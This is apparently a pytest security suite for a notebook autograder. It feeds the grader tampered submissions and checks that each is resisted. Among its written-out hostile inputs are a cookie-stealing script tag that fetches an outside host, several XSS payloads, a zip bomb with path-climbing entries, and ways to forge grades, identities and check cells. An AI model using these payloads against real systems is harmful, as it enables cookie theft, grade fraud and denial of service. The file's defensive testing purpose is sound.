"""Tricks with the file itself: a submission is rebuilt from its release, whatever it says."""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import pytest

from .arena import Arena
from .attack import WRONG, Attack, Notebook, as_bytes, find, own_cell
from .family import each

pytestmark = pytest.mark.sandbox

MARKUP = (
    "<script>fetch('http://example.org/'+document.cookie)</script>"
    "<img src=x onerror=alert(1)> [x](javascript:alert(1)) <iframe srcdoc='<script>1</script>'>"
    "![y](attachment:y.svg) <svg onload=alert(1)> ```\n</pre></textarea><script>alert(2)</script>"
)


def zipped(notebook: Notebook) -> bytes:
    """An archive with absolute and parent paths and a bomb."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../release/a1_classifiers/knn.ipynb", as_bytes(notebook))
        archive.writestr("/gradebook.db", "99")
        archive.writestr("knn.ipynb", bytes(1 << 26))
    return data.getvalue()


def worth_a_thousand(notebook: Notebook) -> bytes:
    """Points raised and written questions turned into passed ones, in the metadata."""
    for cell in notebook["cells"]:
        role = cell["metadata"].get("nbgrader")
        if role and role.get("grade"):
            role |= {"points": 1000, "locked": False, "score": 1000, "solution": False}
    return as_bytes(notebook)


def a_question_of_its_own(notebook: Notebook) -> bytes:
    """A check and an answer that the release does not have."""
    for name in ("knn-q8", "knn-q6-check-2"):
        cell = own_cell("check = lambda *args: None")
        cell["metadata"] = {
            "nbgrader": {"grade": True, "grade_id": name, "points": 99, "locked": True}
        }
        notebook["cells"].append(cell)
    return as_bytes(notebook)


def checks_emptied(notebook: Notebook) -> bytes:
    """Check cells that check nothing, say what they like, or are gone."""
    find(notebook, "knn-q6-check")["source"] = "print('knn-q6: ok on 9 inputs')"
    find(notebook, "knn-q1-check")["source"] = "def check(*args): return 2.0\nlocked = False"
    notebook["cells"].remove(find(notebook, "knn-q7-check"))
    return as_bytes(notebook)


def roles_swapped(notebook: Notebook) -> bytes:
    """Answers that say they are checks, and checks that say they are answers."""
    for question in ("knn-q1", "knn-q6"):
        answer, check = find(notebook, question), find(notebook, f"{question}-check")
        answer["metadata"], check["metadata"] = check["metadata"], answer["metadata"]
    return as_bytes(notebook)


def another_student(notebook: Notebook) -> bytes:
    """Another's name and an old time, wherever a tool might look for them."""
    notebook["metadata"] |= {
        "student": "bob.honest",
        "student_id": "bob.honest",
        "timestamp": "1999-01-01 00:00:00 UTC",
        "nbgrader": {"student": "bob.honest", "score": 1000},
        "authors": [{"name": "bob.honest"}],
    }
    find(notebook, "knn-q6")["metadata"]["nbgrader"]["student"] = "bob.honest"
    return as_bytes(notebook)


def markup_everywhere(notebook: Notebook) -> bytes:
    """Script in answers, texts, outputs, attachments, widget state, names and ids."""
    find(notebook, "knn-w1")["source"] = MARKUP
    find(notebook, "knn-w2")["source"] = "``````\n" + MARKUP
    find(notebook, "knn-w1")["attachments"] = {"y.svg": {"image/svg+xml": MARKUP}}
    find(notebook, "knn-q6")["outputs"] = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": MARKUP, "application/javascript": "alert(1)"},
        }
    ]
    notebook["cells"].append(own_cell(MARKUP, "markdown") | {"id": MARKUP})
    notebook["cells"].append(own_cell(MARKUP, "raw"))
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": MARKUP}
    return as_bytes(notebook)


def tags_moved(notebook: Notebook) -> bytes:
    """Cells that hide from grading, or hide others from it, by tags."""
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = ["long", "display", "result-knn-q6", "skip-execution"]
    return as_bytes(notebook)


def other_kernel(notebook: Notebook) -> bytes:
    """A kernel that runs a shell."""
    notebook["metadata"]["kernelspec"] = {"name": "bash", "language": "bash", "argv": ["sh", "-c"]}
    return as_bytes(notebook)


def added(*sources: str) -> Any:
    """Puts cells of the student's own behind the set-up."""

    def change(notebook: Notebook) -> bytes:
        at = notebook["cells"].index(find(notebook, "knn-q1"))
        notebook["cells"][at:at] = [own_cell(source) for source in sources]
        return as_bytes(notebook)

    return change


def odd_values(notebook: Notebook) -> bytes:
    """Every field of some type that it must not have."""
    odd: list[Any] = [None, 5, [], {}, True, [None], {"a": 1}, "\ud800", "../../x", 1e999]
    for value in odd:
        cell = own_cell("x = 1")
        notebook["cells"] += [
            cell | {key: value} for key in ("source", "id", "metadata", "outputs")
        ]
        notebook["cells"].append(cell | {"metadata": {"nbgrader": value, "tags": value}})
        notebook["cells"].append(cell | {"metadata": {"nbgrader": {"grade_id": value}}})
    notebook["cells"] += odd
    return as_bytes(notebook)


def wrong_everywhere(source: str) -> dict[str, str]:
    """A wrong answer to knn-q1 below some code."""
    return {"knn-q1": source + WRONG["knn-q1"]}


DEEP = "+".join(["1"] * 1500)

ATTACKS = [
    Attack("an archive with a bomb and paths that climb", change=zipped),
    Attack("no notebook but a picture", change=lambda _: b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
    Attack("JSON that is cut off", change=lambda notebook: as_bytes(notebook)[:-100]),
    Attack("JSON nested a million deep", change=lambda _: b'{"cells": ' + b"[" * 10**6),
    Attack("a number of a million digits", change=lambda _: b'{"cells": ' + b"9" * 10**6 + b"}"),
    Attack(
        "a file over the cap",
        change=lambda notebook: as_bytes(notebook | {"pad": "x" * (21 << 20)}),
    ),
    Attack(
        "twenty megabytes of empty lists",
        change=lambda _: b'{"cells": [' + b"[]," * (6 << 20) + b"1]}",
    ),
    Attack("fields of every wrong type", answers=wrong_everywhere(""), change=odd_values),
    Attack("points and scores in the metadata", answers=WRONG, change=worth_a_thousand, seconds=90),
    Attack("questions that the release does not have", "pass", change=a_question_of_its_own),
    Attack("check cells emptied, redefined and deleted", "pass", change=checks_emptied),
    Attack(
        "answers and checks with their roles swapped",
        wrong_everywhere("")["knn-q1"],
        dies=True,
        change=roles_swapped,
    ),
    Attack("another student's name and an old time", "pass", change=another_student),
    Attack("script in answers, outputs, attachments and ids", "pass", change=markup_everywhere),
    Attack("tags that hide cells from grading", "pass", change=tags_moved),
    Attack("a kernel that is a shell", "pass", change=other_kernel),
    Attack(
        "an expression too deep for a syntax tree to be walked",
        "pass",
        change=added(f"x = {DEEP}", f"y = {DEEP}; print(1)", "def f():\n    return " + "-" * 2000),
    ),
    Attack(
        "a cell of the student's own that replaces what the given cells import",
        "pass",
        change=added(
            "def check(*args):\n    return 1000",
            "class np:\n    zeros = ones = sqrt = staticmethod(lambda *args: True)",
            "import builtins\n@builtins.print\ndef decorated():\n    pass",
        ),
    ),
    Attack(
        "class bodies, defaults and decorators that run while cells are sieved",
        "pass",
        change=added(
            "class Ends:\n    import os\n    os.write(1, b'x')\n",
            "def defaults(x=__import__('os').getpid()):\n    pass",
            "@(lambda f: __import__('sys').modules)\ndef decorated():\n    pass",
        ),
    ),
    Attack(
        "hundreds of cells, each with the same id as an answer",
        "pass",
        change=lambda notebook: as_bytes(
            notebook | {"cells": notebook["cells"] + [find(notebook, "knn-q6") | {"id": "x"}] * 100}
        ),
    ),
    Attack(
        "text that runs backwards, hides itself or controls a terminal",
        answers={
            "knn-q6": "def best_k(accuracies):\n"
            "    raise ValueError('\u202epassed\u2066\u200b\x1b[2J\x07\ufeff4 of 4\\r\\b')"
        },
    ),
]


@each(ATTACKS)
def test_no_file_is_believed(arena: Arena, attack: Attack) -> None:
    arena.withstands(attack)


def test_a_rebuilt_notebook_has_no_markup_of_the_student(arena: Arena) -> None:
    from autograder.grading.intake import rebuild

    submitted = json.loads(as_bytes(arena.release))
    rebuilt = rebuild(arena.release, markup_everywhere(submitted)).notebook
    for cell in rebuilt["cells"]:
        assert not cell.get("attachments")
        assert not cell.get("outputs")
        if "onerror" in "".join(cell["source"]):
            assert cell["cell_type"] == "markdown"
            assert cell["source"].startswith("```")
    assert "widgets" not in rebuilt["metadata"]


def test_the_others_are_graded_as_always(arena: Arena) -> None:
    arena.grades_as_always()
